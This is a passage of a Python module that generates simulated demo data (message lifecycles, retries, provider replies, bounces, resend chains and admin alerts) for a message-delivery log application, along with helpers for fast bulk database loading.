            life.create("BACKEND_TEST_REQUIRED", HELD_REASON.format(name=OLD_RELAY))
            life.wait(rng.uniform(60, 6 * 3600))
        else:
            send_at = _morning(life.at + timedelta(days=rng.randrange(1, 4)))
            life.create("WAITING", "scheduled", actor=row["sender"])
            row["next_attempt_at"] = send_at
            life.wait(rng.uniform(0.05, 0.9) * (send_at - life.at).total_seconds())
        life.at = min(life.at, self.now - timedelta(seconds=1))
        life.cancel(staff)  # it keeps the time it was due, as move() leaves it

    def lifecycle_retrying(self, life: Life) -> None:
        """Backing off after 1 to 3 failed tries; the next try is due in the coming seconds."""
        rng, row = self.rng, life.row
        channel = row["channel"]
        policy = self.policies[channel]
        most = 3 if policy.max_retries == -1 else min(policy.max_retries, 3)
        if most < 1:  # this policy never retries: it waits for its time instead
            life.at = self.now - timedelta(seconds=rng.uniform(60, 3600))
            life.create("WAITING", "scheduled", actor=row["sender"])
            row["next_attempt_at"] = self.now + timedelta(hours=1)
            return
        tries = rng.choice(range(1, most + 1))
        life.delays = [self.retry_delay(policy, n) for n in range(1, tries + 1)]
        latencies = [self.latency(channel) for _ in range(tries)]
        failures = [self.transient(channel) for _ in range(tries)]
        # the steps between tries take at most 0.3 + 0.4 + 0.02 s each
        busy = sum(latencies) + sum(life.delays[:-1]) + 0.75 * tries
        life.at = self.now - timedelta(seconds=busy + rng.uniform(0.05, 0.5) * life.delays[-1])
        life.create("QUEUED", actor=row["sender"])
        for n in range(tries):
            if n:
                life.release()
            life.send(failures[n], latencies[n])

    def lifecycle_held_batch(self, life: Life, position: int) -> None:
        """The batch that met the Old relay's refusal: the first try got a 535, the rest of the
        batch was held without a try (worker/delivery.py deliver())."""
        life.create("QUEUED", actor=life.row["sender"])
        life.at = self.incident_start - timedelta(seconds=0.2 - 0.001 * position)
        life.move("SENDING", CLAIMED, lease_owner=life.worker, lease_until=life.at + LEASE)
        if position == 0:
            life.at = self.incident_start
            life.built.attempts.append(
                life._attempt(life.at - timedelta(seconds=0.15), self.auth_error)
            )
            life.row["attempts"] += 1
            life._settle(self.auth_error)
        else:
            life.at = self.incident_start + timedelta(seconds=0.01)
            life.move(
                "BACKEND_TEST_REQUIRED",
                HELD_REASON.format(name=OLD_RELAY),
                lease_owner=None,
                lease_until=None,
            )

    def build_alert(self, at: datetime) -> Built:
        """The alert the admins got when the Old relay was refused (shared/alerts.py)."""
        relay = self.backends[OLD_RELAY]
        body = (
            f'The email backend "{relay.name}" has been refusing its settings since '
            f"{self.incident_start:%Y-%m-%d %H:%M} UTC.\n\n"
            f"What failed: {self.auth_error.response}\n"
            f"Messages waiting or held: {min(3, self.held_count)}\n\n"
            "Its messages are held and no retries are used up. Fix its settings, then press "
            '"Test now": the held messages then go out by themselves.\n\n'
            f"Open the backend: {self.base_url}/backends/{relay.id}\n"
        )
        row = self.message_row(
            EMAIL,
            ADMIN_EMAIL,
            self.backends[OFFICE_MAIL],
            subject=f"[commlog] {relay.name} needs a test: its settings were refused",
            body_text=body,
            kind="system.backend_alert",
            user=self.admin.id,
        )
        life = Life(self, row, at, self.full)
        self.lifecycle_sent(life, None, at_once=True)
        return life.built

    def build_link(self, chain: Chain, position: int, at: datetime) -> Built:
        """One message of a resend chain; resends copy the first one's content."""
        rng = self.rng
        kind = chain.kind
        last = position == len(chain.plan) - 1
        if position == 0:
            code = CHAIN_KINDS[kind][0]
            row = self.content(CHAIN_CHANNEL[kind], code, at, relay=False)
            chain.original = dict(row)
            life = Life(self, row, at, self.full)
            if kind == "fixed_sms":
                self.lifecycle(life, NOT_SENT_)
            elif kind == "webhook":
                self.lifecycle_failed(life, "gave_up")
            elif kind == "copy":
                self.lifecycle_sent(life, None)
            else:
                self.lifecycle_failed(life, "bounce")
            chain.staff = rng.choice(self.support)
        else:
            original = chain.original
            staff = chain.staff if rng.random() < 0.85 else None
            fixed = last and kind in ("third", "fixed_email", "fixed_sms")
            recipient = chain.good_recipient if fixed else chain.last_recipient
            row = self.message_row(
                CHANNELS.index(original["channel"]),
                recipient,
                self.backend_by_id[original["backend"]],
                **{
                    k: original[k]
                    for k in (
                        "subject",
                        "body_text",
                        "body_html",
                        "kind",
                        "language",
                        "client",
                        "group",
                        "user",
                        "metadata",
                    )
                },
                sender=staff.id if staff else None,
            )
            life = Life(self, row, at, self.full)
            code = CHAIN_KINDS[kind][position]
            if code == FAILED_:
                life.create("QUEUED", actor=row["sender"])
                life.deliver([self.refusal("email", recipient, bounce=True)])
            else:
                final = "DELIVERED" if code == DELIVERED_ else None
                self.lifecycle_sent(life, final, at_once=True)  # resend() queues it at once
            life.built.resend_of = chain.uids[-1]
            corrected = f" to {recipient}" if recipient != chain.last_recipient else ""
            life.built.events.append(
                {
                    "created_at": row["created_at"],
                    "action": "resend",
                    "message": chain.uids[-1],
                    "backend": None,
                    "actor": row["sender"],
                    "from_state": None,
                    "to_state": None,
                    "detail": f"resent{corrected} as {row['uid']}",
                }
            )
            if row["state"] in ("SENT", "DELIVERED"):
                life.built.resolves = [
                    uid
                    for uid, state in zip(chain.uids, chain.states, strict=True)
                    if state in ("FAILED", "NOT_SENT")
                ]
        if position == 0:
            chain.good_recipient = chain.original["recipient"]
        chain.last_recipient = row["recipient"]
        chain.uids.append(row["uid"])
        chain.states.append(row["state"])
        life.built.keep_id = not last
        return life.built

    # -- what providers say --

    def success(self, channel: str) -> DeliveryResult:
        rng = self.rng
        if channel == "email":
            return DeliveryResult(
                SENT, f"250 2.0.0 Ok: queued as {rng.getrandbits(44):011X}", smtp_code=250
            )
        if channel == "sms":
            provider_id = f"SM{rng.getrandbits(64):016x}"
            body = f'{{"id": "{provider_id}", "status": "accepted"}}'
            return DeliveryResult(
                SENT,
                f"Provider id: {provider_id}\n200 OK\n{body}",
                http_status=200,
                provider_id=provider_id,
            )
        return DeliveryResult(SENT, rng.choice(['200 OK\n{"ok": true}', "200 OK"]), http_status=200)

    def transient(self, channel: str) -> DeliveryResult:
        rng = self.rng
        if channel == "email":
            code, text, error_type = rng.choice(EMAIL_TRANSIENT)
            words = reply_meaning(code, text)[1]
            return DeliveryResult(
                "transient_error", f"{words} ({code} {text})", error_type, smtp_code=code
            )
        if channel == "webhook" and rng.random() < 0.3:
            error_type, words = rng.choice(WEBHOOK_NO_ANSWER)
            return DeliveryResult("transient_error", words, error_type)
        status, reason, body = rng.choice(SMS_TRANSIENT if channel == "sms" else WEBHOOK_TRANSIENT)
        return _http_result("transient_error", status, reason, body)

    def refusal(self, channel: str, recipient: str, bounce: bool = False) -> DeliveryResult:
        rng = self.rng
        if channel == "email":
            code, text, error_type = rng.choice(EMAIL_BOUNCES if bounce else EMAIL_REFUSALS)
            text = text.format(rcpt=recipient)
            outcome, words = reply_meaning(code, text)
            return DeliveryResult(outcome, f"{words} ({code} {text})", error_type, smtp_code=code)
        status, reason, body = rng.choice(SMS_REFUSALS if channel == "sms" else WEBHOOK_REFUSALS)
        return _http_result(PERMANENT, status, reason, body)

    # -- writing --

    def run(self) -> dict:
        started = time.monotonic()
        create_schema()
        with db.atomic():
            self.ensure_staff()
            self.ensure_clients()
            self.ensure_groups()
            self.ensure_backends()
        self.policies = {c: policy_for(c) for c in CHANNELS}
        self.workers = [
            f"commlog-worker-{host}/{pid}.{token:06x}/Worker-{thread}"
            for host, pid, token, thread in (
                (1, 2211, 0x8C41F0, 1), (1, 2211, 0x8C41F0, 2), (1, 2211, 0x8C41F0, 3),
                (2, 1873, 0x1E9A2B, 1), (2, 1873, 0x1E9A2B, 2), (2, 3342, 0x5D07C4, 4),
            )
        ]  # fmt: skip
        self.lease_owner = self.workers[4]
        self.plan()
        self.floor = Message.select(Message.id).order_by(Message.id.desc()).scalar() or 0
        self.kept: dict[str, int] = {}
        self.done = 0
        main = [i for i in range(len(self.states)) if self.states[i] not in RECENT_CODES]
        main.sort(key=self.times.__getitem__)
        recent = [i for i in range(len(self.states)) if self.states[i] in RECENT_CODES]
        # build here, write in a thread: the database works while Python makes the next chunk
        writer = Writer(self)
        bulk = self.n >= BULK
        # a big load into an empty log: its indexes are built once at the end, which is many
        # times faster than keeping them up to date row by row
        fresh = bulk and not Message.select().exists() and _drop_indexes()
        paused = bulk and _pause_search_index()
        writer.start()
        try:
            chunk: list[Built] = []
            for index in main:
                chunk.append(self.build(index))
                if len(chunk) >= CHUNK:
                    writer.put(chunk)
                    chunk = []
            chunk += sorted((self.build(i) for i in recent), key=lambda b: b.row["created_at"])
            for start in range(0, len(chunk), CHUNK):
                writer.put(chunk[start : start + CHUNK])
        finally:
            try:
                writer.finish()
            finally:
                with _bulk_load_settings():
                    if fresh:
                        self.say("Building the indexes…")
                        create_schema()
                    if paused:
                        self.say("Building the search index…")
                        _rebuild_search_index()
        self.result.update(
            messages=self.done,
            by_state=dict(sorted(self.counts.items())),
            by_channel=dict(sorted(self.channel_counts.items())),
            attempts=self.attempt_count,
            events=self.event_count,
            chains=sum(1 for s in self.special.values() if s[0] == "chain" and s[2] == 0),
            seconds=round(time.monotonic() - started, 1),
        )
        return self.result

    def write(self, chunk: list[Built]) -> None:
        """Insert a chunk of messages with their attempts and events, in one transaction."""
        with db.atomic():
            insert_all(Message, [b.row for b in chunk])
            uids = {b.row["uid"] for b in chunk}
            ids = {
                uid: message_id
                for message_id, uid in Message.select(Message.id, Message.uid)
                .where(Message.id > self.floor)
                .tuples()
                if uid in uids
            }
            self.floor = max(ids.values())
            ids.update(self.kept)
            attempts, events = [], []
            for b in chunk:
                for a in b.attempts:
                    a["message"] = ids[a["message"]]
                attempts += b.attempts
                for e in b.events:
                    e["message"] = ids[e["message"]]
                events += b.events
            insert_all(Attempt, attempts)
            insert_all(Event, events)
            for b in chunk:
                message_id = ids[b.row["uid"]]
                if b.keep_id:
                    self.kept[b.row["uid"]] = message_id
                if b.resend_of:
                    Message.update(resend_of=ids[b.resend_of]).where(
                        Message.id == message_id
                    ).execute()
                if b.resolves:
                    Message.update(resolved_by=message_id).where(
                        Message.id.in_([ids[uid] for uid in b.resolves])
                    ).execute()
                self.counts[b.row["state"]] += 1
                self.channel_counts[b.row["channel"]] += 1
        self.attempt_count += len(attempts)
        self.event_count += len(events)
        self.done += len(chunk)
        if self.n >= BULK and (self.done % (self.n // 10 or 1) < len(chunk)):
            self.say(f"{self.done:,} of {self.n:,} messages")

    def say(self, words: str) -> None:
        if self.progress:
            self.progress(words)


class Writer(threading.Thread):
    """Writes the chunks it is given, in order, on its own database connection."""

    def __init__(self, demo: Demo):
        super().__init__(name="demo-writer", daemon=True)
        self.demo = demo
        self.chunks: queue.Queue = queue.Queue(maxsize=4)
        self.error: BaseException | None = None

    def run(self) -> None:
        try:
            with db.connection_context(), _bulk_load_settings():
                while (chunk := self.chunks.get()) is not None:
                    self.demo.write(chunk)
        except BaseException as exc:  # handed to the builder, which raises it
            self.error = exc

    def put(self, chunk: list[Built] | None) -> None:
        while True:
            if self.error is not None:
                raise self.error
            try:
                self.chunks.put(chunk, timeout=0.2)
                return
            except queue.Full:
                continue

    def finish(self) -> None:
        """Wait for the last chunk to be written (raising what went wrong, if anything)."""
        if self.error is None and self.is_alive():
            self.put(None)
        self.join()
        if self.error is not None:
            raise self.error


def load_demo(messages: int = 3000, seed: int = 1, progress: Callable | None = None) -> dict:
    """Make demo data: staff logins, clients, groups, backends (reused when they exist) and
    `messages` messages over the last 30 days in every state. A big run calls
    `progress(words)` now and then to say how far it got. Returns what it made: counts by
    state and channel, the logins, and the password of the logins it created (None when they
    all existed)."""
    if messages < 0:
        raise ValueError("the number of messages cannot be negative")
    if messages >= 2**24:
        raise ValueError("at most 16,777,215 messages at a time")
    return Demo(messages, seed, progress).run()


# --- small helpers ------------------------------------------------------------------------------


def insert_all(model, rows: list[dict]) -> None:
    """insert_rows() for rows that name every column and hold database values already (a
    JSONField's as made by json_value()): no per-value conversion, which is most of the cost
    at a million rows."""
    if not rows:
        return
    fields = [f for f in model._meta.sorted_fields if f.name != "id"]
    columns = ", ".join(f'"{f.column_name}"' for f in fields)
    values = itemgetter(*[f.name for f in fields])
    head = f'INSERT INTO "{model._meta.table_name}" ({columns}) VALUES '
    if is_sqlite():
        placeholders = ", ".join([db.param] * len(fields))
        db.cursor().executemany(f"{head}({placeholders})", [values(row) for row in rows])
        return
    # psycopg2's executemany runs one statement per row, a round trip each; execute_values
    # sends a page of rows per statement
    execute_values(db.cursor(), head + "%s", [values(row) for row in rows], page_size=PAGE)


def json_value(value):
    """A JSONField's value as executemany can bind it: on SQLite, peewee 4 wraps it in a json()
    call, which only a built query can carry; the JSON text is what that call stores."""
    if not is_sqlite():
        return Message.metadata.db_value(value)
    return "{}" if not value else json.dumps(value)


# for a bulk load, on this connection only and until it is done: no syncs (a crash during a
# demo load loses the demo, never data that mattered); on SQLite the WAL checkpointed every
# ~40 MB rather than every 4 MB, and a page cache that holds the uid index whole (its random
# inserts otherwise wait on the disk) and the sorts of the index builds; on PostgreSQL the
# memory for building the indexes (the trigram index's 64 MB default spills to disk often)
BULK_PRAGMAS = {"synchronous": "OFF", "wal_autocheckpoint": 10_000, "cache_size": -512_000}
BULK_SETTINGS = {"synchronous_commit": "off", "maintenance_work_mem": "'512MB'"}


@contextmanager
def _bulk_load_settings():
    if not is_sqlite():
        for name, value in BULK_SETTINGS.items():
            db.execute_sql(f"SET {name} = {value}")
        try:
            yield
        finally:
            for name in BULK_SETTINGS:
                db.execute_sql(f"RESET {name}")
        return
    before = {name: db.execute_sql(f"PRAGMA {name}").fetchone()[0] for name in BULK_PRAGMAS}
    for name, value in BULK_PRAGMAS.items():
        db.execute_sql(f"PRAGMA {name} = {value}")
    try:
        yield
    finally:
        for name, value in before.items():
            db.execute_sql(f"PRAGMA {name} = {value}")


def _pause_search_index() -> bool:
    """Stop indexing new messages for search one by one (SQLite FTS5, shared/search.py), for a
    bulk load; True if it was paused. _rebuild_search_index() puts it back."""
    if not is_sqlite():
        return False  # PostgreSQL's trigram index has no trigger to pause
    found = db.execute_sql(
        "SELECT 1 FROM sqlite_master WHERE type = 'trigger' AND name = ?", (SEARCH_TRIGGER,)
    ).fetchone()
    if not found:
        return False
    db.execute_sql(f'DROP TRIGGER "{SEARCH_TRIGGER}"')
    return True


def _drop_indexes() -> bool:
    """Drop the non-unique indexes of messages, attempts and events for a bulk load into an
    empty log; create_schema() makes them again."""
    for model in (Message, Attempt, Event):
        for index in db.get_indexes(model._meta.table_name):
            if not index.unique and index.sql:
                db.execute_sql(f'DROP INDEX "{index.name}"')
    return True


def _rebuild_search_index() -> None:
    """The trigger back, and every message (those of the bulk load too) in the index."""
    from shared.search import create_search_index, rebuild_search_index

    with db.atomic():
        create_search_index()
        rebuild_search_index()


class _Most:
    """A stand-in for random that always jitters to the top: the longest a delay can be."""

    @staticmethod
    def uniform(low: float, high: float) -> float:
        return high


_MOST = _Most()


def _usable(channel: str, recipient: str | None) -> str | None:
    return recipient if recipient and recipient_problem(channel, recipient) is None else None


def _pick(rng: random.Random, choices: tuple) -> tuple[str, str]:
    """A (kind, audience) from a table made by _weighted()."""
    population, cumulative = choices
    return rng.choices(population, cum_weights=cumulative)[0]


def _weighted(table: list) -> tuple:
    return [(kind, audience) for kind, _, audience in table], list(
        accumulate(weight for _, weight, _ in table)
    )


def _fill(template: str, values: dict) -> str:
    return template.format_map(values)


def _date(at: datetime, language: str) -> str:
    months = MONTHS.get(language, MONTHS["en"])
    if language == "en":
        return f"{at.day} {months[at.month - 1]} {at.year}"
    if language == "es":
        return f"{at.day} de {months[at.month - 1]} de {at.year}"
    return f"{at.day} {months[at.month - 1]} {at.year}"


def _month(at: datetime, language: str) -> str:
    """The month before `at`'s (statements and summaries are of a finished month)."""
    previous = at.replace(day=1) - timedelta(days=1)
    return f"{MONTHS.get(language, MONTHS['en'])[previous.month - 1]} {previous.year}"


def _morning(at: datetime) -> datetime:
    """7 o'clock (UTC) on the day of `at`, or the next day's if that has passed."""
    morning = at.replace(hour=7, minute=0, second=0, microsecond=0)
    return morning if morning > at else morning + timedelta(days=1)


def _html(title: str, text: str) -> str:
    paragraphs = "".join(f"<p>{escape(p).replace(chr(10), '<br>')}</p>" for p in text.split("\n\n"))
    return (
        '<!doctype html><html><body style="font-family:Arial,sans-serif;color:#222;'
        'max-width:600px">'
        f'<h2 style="color:#0b5394">{escape(title)}</h2>{paragraphs}'
        '<p style="color:#888;font-size:12px">'
        f"{ORG} · You receive this email because you are a client of ours.</p></body></html>"
    )


def _http_result(outcome: str, status: int, reason: str, body: str) -> DeliveryResult:
    return DeliveryResult(
        outcome, f"{status} {reason}\n{body}".strip(), "HTTPError", http_status=status
    )


def _auth_refused() -> DeliveryResult:
    code, text = AUTH_REFUSED
    outcome, words = reply_meaning(code, text)
    return DeliveryResult(
        outcome, f"{words} ({code} {text})", "SMTPAuthenticationError", smtp_code=code
    )


def _mistyped(rng: random.Random, email: str) -> str:
    """The address with its domain mistyped (exmaple.com), as people type them."""
    local, _, domain = email.partition("@")
    name, dot, rest = domain.partition(".")
    if len(name) > 3:
        i = rng.randrange(1, len(name) - 2)
        name = name[:i] + name[i + 1] + name[i] + name[i + 2 :]
    return f"{local}@{name}{dot}{rest}"


def _unusable(rng: random.Random, channel: str, recipient: str) -> str:
    """A recipient written the way the outbox refuses: a phone number without its country
    code or cut short, an address without its domain, a URL without its scheme."""
    if channel == "sms":
        number = phonenumbers.parse(recipient)
        national = phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.NATIONAL)
        choices = [national, recipient[:-4], recipient[1:], national]
    elif channel == "email":
        local, _, domain = recipient.partition("@")
        choices = [f"{local}.{domain}", f"{local}@{domain.split('.')[0]}", f"{local}@@{domain}"]
    else:
        choices = [recipient.split("://", 1)[1], recipient.replace("https://", "https:// ")]
    choice = rng.choice(choices)
    # a number cut short may still be some valid number: then the national form, always refused
    return choice if recipient_problem(channel, choice) else choices[-1]
